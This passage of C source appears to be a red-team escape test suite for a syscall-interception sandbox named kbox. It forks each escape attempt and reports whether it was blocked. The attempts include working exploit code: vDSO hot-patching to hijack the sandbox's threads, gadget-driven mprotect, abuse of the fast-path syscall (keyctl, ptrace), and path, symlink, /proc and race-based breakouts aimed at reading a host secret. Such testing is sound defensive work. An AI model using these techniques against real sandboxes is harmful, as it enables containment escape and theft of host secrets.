	"	stp x0, x1, [sp, #16]\n"
	"	stp x19, x20, [sp, #32]\n"
	"	adrp x19, g_hijack_runs\n"
	"	add x19, x19, :lo12:g_hijack_runs\n"
	"2:	ldxr x20, [x19]\n"
	"	add x20, x20, #1\n"
	"	stxr w9, x20, [x19]\n"
	"	cbnz w9, 2b\n"
	"	mov x0, #-100\n"
	"	adrp x1, g_secret_path\n"
	"	add x1, x1, :lo12:g_secret_path\n"
	"	mov x2, #0\n"
	"	movn x8, #0\n" /* x8 = 56 (openat) without `mov x8,#nr; svc` for the rewriter */
	"	add x8, x8, #57\n"
	"	svc #0\n"
	"	tbnz x0, #63, 1f\n"
	"	adrp x19, g_hijack_opened\n"
	"	add x19, x19, :lo12:g_hijack_opened\n"
	"3:	ldxr x20, [x19]\n"
	"	add x20, x20, #1\n"
	"	stxr w9, x20, [x19]\n"
	"	cbnz w9, 3b\n"
	"	movn x8, #0\n"
	"	add x8, x8, #58\n" /* close */
	"	svc #0\n"
	"	mov x0, #-100\n"
	"	adrp x1, g_marker_path\n"
	"	add x1, x1, :lo12:g_marker_path\n"
	"	mov x2, #0x41\n" /* O_WRONLY|O_CREAT */
	"	mov x3, #0644\n"
	"	movn x8, #0\n"
	"	add x8, x8, #57\n"
	"	svc #0\n"
	"	tbnz x0, #63, 1f\n"
	"	movn x8, #0\n"
	"	add x8, x8, #58\n"
	"	svc #0\n"
	"1:	ldp x0, x1, [sp, #16]\n"
	"	ldp x19, x20, [sp, #32]\n"
	"	ldp x29, x30, [sp], #48\n"
	"	movn x8, #0\n"
	"	add x8, x8, #114\n" /* clock_gettime */
	"	svc #0\n"
	"	ret\n");
#endif

/* The address of a symbol in the vDSO (section headers are part of the
 * image), or NULL. */
static unsigned char *vdso_sym(const char *name)
{
	unsigned char *base = (unsigned char *)getauxval(AT_SYSINFO_EHDR);
	Elf64_Ehdr *eh = (Elf64_Ehdr *)base;
	Elf64_Shdr *sh;
	if (!base || memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0 || eh->e_shoff == 0)
		return NULL;
	sh = (Elf64_Shdr *)(base + eh->e_shoff);
	for (int i = 0; i < eh->e_shnum; i++) {
		if (sh[i].sh_type != SHT_DYNSYM || sh[i].sh_link >= eh->e_shnum)
			continue;
		Elf64_Sym *sym = (Elf64_Sym *)(base + sh[i].sh_offset);
		const char *str = (const char *)(base + sh[sh[i].sh_link].sh_offset);
		for (size_t k = 0; k < sh[i].sh_size / sizeof *sym; k++)
			if (sym[k].st_name && strcmp(str + sym[k].st_name, name) == 0 && sym[k].st_value)
				return base + sym[k].st_value;
	}
	return NULL;
}

static int a_hijack_kbox_threads(char *d)
{
	/* set by the test (--setenv): kbox adds nothing to the environment */
	const char *mode = getenv("KBOX_SYSCALL_MODE");
	int inproc = mode && (strcmp(mode, "trap") == 0 || strcmp(mode, "rewrite") == 0);
	unsigned char *fn = vdso_sym("__vdso_clock_gettime");
	const unsigned char *g = foreign_gadget();
#if defined(__x86_64__)
	unsigned char stub[12], saved[12];
#endif
	unsigned long page;
	int memfd, esc = 0;
	long r;
	if (!inproc)
		return addf(d, "not in-process: the guest's vDSO is its own process's"), 0;
	if (!fn)
		return addf(d, "no vDSO clock_gettime"), 0;
	snprintf(g_marker_path, sizeof g_marker_path, "%s/PWNED", g_host);
	/* /proc/self/mem opened for writing: kbox's memory in-process */
	memfd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (memfd >= 0) {
		close(memfd);
		if (inproc)
			return addf(d, "open(/proc/self/mem, O_RDWR) succeeded in-process"), 1;
	}
	if (!g)
		return addf(d, "/proc/self/mem: %s; no foreign syscall;ret to mprotect with", memfd < 0 ? en(errno) : "ok"), 0;
	page = (unsigned long)fn & ~4095UL;
	r = gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
	if (r != 0)
		return addf(d, "mprotect(vDSO) through %p: %s", (const void *)g, en((int)-r)), 0;
#if defined(__x86_64__)
	/* movabs $hijack_code, %rax; jmp *%rax; installed so that a thread
	 * entering meanwhile spins on `jmp .` instead of running half a stub */
	stub[0] = 0x48;
	stub[1] = 0xb8;
	uint64_t target = (uint64_t)(uintptr_t)hijack_code;
	memcpy(stub + 2, &target, 8);
	stub[10] = 0xff;
	stub[11] = 0xe0;
	memcpy(saved, fn, sizeof saved);
	__atomic_store_n((uint16_t *)fn, 0xfeeb, __ATOMIC_SEQ_CST);
	memcpy(fn + 2, stub + 2, sizeof stub - 2);
	__atomic_store_n((uint16_t *)fn, *(uint16_t *)stub, __ATOMIC_SEQ_CST);
	/* spin without syscalls: kbox's threads keep reading the clock */
	for (volatile unsigned long i = 0; i < 1500000000UL && g_hijack_runs < 2000; i++)
		;
	__atomic_store_n((uint16_t *)fn, 0xfeeb, __ATOMIC_SEQ_CST);
	memcpy(fn + 2, saved + 2, sizeof saved - 2);
	__atomic_store_n((uint16_t *)fn, *(uint16_t *)saved, __ATOMIC_SEQ_CST);
#else
	/* ldr x16, #8; br x16; .quad hijack_code; installed so that a thread
	 * entering meanwhile spins on `b .` instead of running half a stub */
	{
		uint32_t st[4] = { 0x58000050, 0xd61f0200, 0, 0 }, sv[4];
		uint64_t target = (uint64_t)(uintptr_t)hijack_code;
		uint32_t *f = (uint32_t *)fn;
		memcpy(st + 2, &target, 8);
		memcpy(sv, f, sizeof sv);
		__atomic_store_n(f, 0x14000000, __ATOMIC_SEQ_CST); /* b . */
		__builtin___clear_cache((char *)f, (char *)(f + 4));
		memcpy(f + 1, st + 1, 12);
		__builtin___clear_cache((char *)f, (char *)(f + 4));
		__atomic_store_n(f, st[0], __ATOMIC_SEQ_CST);
		__builtin___clear_cache((char *)f, (char *)(f + 4));
		for (volatile unsigned long i = 0; i < 1500000000UL && g_hijack_runs < 2000; i++)
			;
		__atomic_store_n(f, 0x14000000, __ATOMIC_SEQ_CST);
		__builtin___clear_cache((char *)f, (char *)(f + 4));
		memcpy(f + 1, sv + 1, 12);
		__builtin___clear_cache((char *)f, (char *)(f + 4));
		__atomic_store_n(f, sv[0], __ATOMIC_SEQ_CST);
		__builtin___clear_cache((char *)f, (char *)(f + 4));
	}
#endif
	gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_EXEC);
	if (g_hijack_opened > 0)
		esc = 1;
	return addf(d, "injected code ran %ld times on threads of this process, opened the host secret %ld times",
		    g_hijack_runs, g_hijack_opened), esc;
}

/* /proc/self/fd/N of a pipe must reopen that pipe: in-process, N is a
 * virtual number and kbox's own descriptor N is something else (kbox's
 * mount roots, pidfds, its /proc/<pid>/fd directory). */
static int a_proc_fd_identity(char *d)
{
	int p[2], fd, esc = 0;
	char path[64], c = 0;
	struct stat a, b;
	if (pipe(p) != 0)
		return addf(d, "pipe: %s", en(errno)), 0;
	/* a spare descriptor so that the pipe's numbers are not kbox's stdio */
	snprintf(path, sizeof path, "/proc/self/fd/%d", p[1]);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		addf(d, "open(%s): %s", path, en(errno));
	} else if (fstat(fd, &a) != 0 || fstat(p[1], &b) != 0 || a.st_ino != b.st_ino || a.st_dev != b.st_dev) {
		addf(d, "open(%s) reopened another object (inode %lu, want %lu)", path, (unsigned long)a.st_ino,
		     (unsigned long)b.st_ino);
		esc = 1;
	} else if (write(fd, "k", 1) != 1 || read(p[0], &c, 1) != 1 || c != 'k') {
		addf(d, "the reopened pipe does not carry data to the original");
		esc = 1;
	} else {
		addf(d, "open(%s) reopened the same pipe", path);
	}
	if (fd >= 0)
		close(fd);
	close(p[0]);
	close(p[1]);
	return esc;
}

/*
 * Enter the rewrite tier's fast path at its syscall instruction with a
 * number of the guest's choosing (the red team found it by its bytes,
 * `lea -1(%r11),%rdi; syscall`): the interception filter allows that
 * address first thing, so it must allow only the fast path's own numbers.
 * PTRACE_TRACEME through it made kbox's parent the tracer of the guest
 * thread (its wait then hung forever); keyctl reached the user's keyrings.
 */
#if defined(__x86_64__)
static const unsigned char *fastpath_gadget(void)
{
	static const unsigned char sig[] = { 0x49, 0x8d, 0x7b, 0xff, 0x0f, 0x05 };
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512];
	const unsigned char *found = NULL;
	if (!maps)
		return NULL;
	while (!found && fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
		    strstr(line, "[vsyscall]") || strstr(line, "[vdso]"))
			continue;
		for (unsigned long p = lo; p + sizeof sig <= hi; p++)
			if (memcmp((const void *)p, sig, sizeof sig) == 0) {
				found = (const unsigned char *)p;
				break;
			}
	}
	fclose(maps);
	return found;
}

/* Calls the fast path's tail as the trampolines do: it returns through
 * the rcx and rdi it pops from the stack (red zone skipped), and takes
 * its first argument as r11 - 1. */
static long fastpath_call(const unsigned char *g, long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("lea -128(%%rsp), %%rsp\n\t"
			 "lea 1f(%%rip), %%rcx\n\t"
			 "push %%rcx\n\t"
			 "push %%rdi\n\t"
			 "lea 1(%%rdi), %%r11\n\t"
			 "jmp *%[g]\n"
			 "1:\n\t"
			 : "=a"(ret), "+D"(a), "+S"(b), "+d"(c)
			 : [g] "r"(g), "a"(nr)
			 : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
	return ret;
}

#endif

static int a_fastpath_any_nr(char *d)
{
#if !defined(__x86_64__)
	/* the signature and the trampoline calling convention are x86_64's */
	return addf(d, "no x86_64 fast path on this architecture"), 0;
#else
	const unsigned char *g = fastpath_gadget();
	long r1, r2;
	if (!g)
		return addf(d, "no fast-path syscall in the process (not the rewrite tier's process)"), 0;
	r1 = fastpath_call(g, SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
	r2 = fastpath_call(g, SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0);
	if (r1 >= 0 || r2 == 0)
		return addf(d, "through the fast path at %p: keyctl %ld, ptrace(TRACEME) %ld", (const void *)g, r1, r2), 1;
	return addf(d, "through the fast path at %p: keyctl %s, ptrace(TRACEME) %s", (const void *)g, en((int)-r1),
		    en((int)-r2)), 0;
#endif
}

static const struct {
	const char *name;
	attempt_fn fn;
} attempts[] = {
	/* first: under the in-process tiers the attempts run in one process,
	 * and a later one may chroot it */
	{ "syscall_gadget", a_syscall_gadget },
	{ "signal_gadget", a_signal_gadget },
	{ "hijack_kbox_threads", a_hijack_kbox_threads },
	{ "fastpath_any_nr", a_fastpath_any_nr },
	{ "proc_fd_identity", a_proc_fd_identity },
	{ "dotdot_abs", a_dotdot_abs },
	{ "dotdot_rel_root", a_dotdot_rel_root },
	{ "dotdot_rel_tmp_deep", a_dotdot_rel_tmp_deep },
	{ "dotdot_rel_root_deep", a_dotdot_rel_root_deep },
	{ "chdir_dotdot_50", a_chdir_dotdot_50 },
	{ "symlink_abs", a_symlink_abs },
	{ "symlink_rel", a_symlink_rel },
	{ "symlink_root", a_symlink_root },
	{ "symlink_loop", a_symlink_loop },
	{ "proc_self_root", a_proc_self_root },
	{ "proc_self_cwd", a_proc_self_cwd },
	{ "proc_pid_root_cwd", a_proc_pids },
	{ "proc_self_fd", a_proc_self_fd },
	{ "openat_inherited_fd", a_openat_inherited },
	{ "moved_cwd", a_moved_cwd },
	{ "hardlink", a_hardlink },
	{ "mknod_chr_1_3", a_mknod_chr_1_3 },
	{ "mknod_blk_8_0", a_mknod_blk_8_0 },
	{ "toctou_path_buffer", a_toctou_path_buffer },
	{ "race_dir_symlink_swap", a_race_dir_symlink_swap },
	{ "openat2_in_root", a_openat2_in_root },
	{ "chroot_climb", a_chroot_climb },
	{ "unix_connect_host", a_unix_connect_host },
	{ "exec_host_prog", a_exec_host_prog },
};

static void report(const char *name, int escaped, const char *detail)
{
	printf("%s %s: %s\n", escaped ? "ESCAPED" : "blocked", name, detail);
	fflush(stdout);
}

/* Run one attempt in a child; returns 1 if it escaped. */
static int run_attempt(const char *name, attempt_fn fn)
{
	static char detail[DETAIL];
	pid_t pid;
	int st;
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		int r;
		alarm(60);
		detail[0] = '\0';
		r = fn(detail);
		report(name, r, detail);
		_exit(r ? 1 : 0);
	}
	if (pid < 0) { /* cannot isolate: run in-process */
		int r;
		detail[0] = '\0';
		r = fn(detail);
		report(name, r, detail);
		if (chdir("/") < 0)
			perror("chdir /");
		return r;
	}
	while (waitpid(pid, &st, 0) < 0)
		if (errno != EINTR)
			return snprintf(detail, sizeof detail, "waitpid: %s", en(errno)),
			       report(name, 0, detail), 0;
	if (WIFEXITED(st))
		return WEXITSTATUS(st) == 1;
	snprintf(detail, sizeof detail, "attempt child killed by signal %d%s", WTERMSIG(st),
		 WTERMSIG(st) == SIGALRM ? " (timeout)" : "");
	report(name, 0, detail);
	return 0;
}

int main(int argc, char **argv)
{
	static char host[1024];
	size_t i, len;
	int fd, escapes = 0;

	if (argc != 3 || argv[1][0] != '/' || argv[2][0] == '\0' || strlen(argv[1]) >= sizeof host) {
		fprintf(stderr, "usage: escape HOSTDIR SECRET   (HOSTDIR absolute, < 1024 chars)\n");
		return 2;
	}
	/* record inherited descriptors before we open anything */
	for (fd = 0; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			g_inherited[g_ninherited++] = fd;
	snprintf(host, sizeof host, "%s", argv[1]);
	len = strlen(host);
	while (len > 1 && host[len - 1] == '/')
		host[--len] = '\0';
	g_host = host;
	g_host_rel = host + 1;
	g_secret = argv[2];
	snprintf(g_secret_path, sizeof g_secret_path, "%s/secret.txt", g_host);
	g_ppid = getppid();
	if (chdir("/") < 0)
		perror("chdir /");

	for (i = 0; i < sizeof attempts / sizeof attempts[0]; i++)
		escapes += run_attempt(attempts[i].name, attempts[i].fn);
	printf("summary: %d escaped of %d attempts\n", escapes, (int)(sizeof attempts / sizeof attempts[0]));
	return escapes > 255 ? 255 : escapes;
}
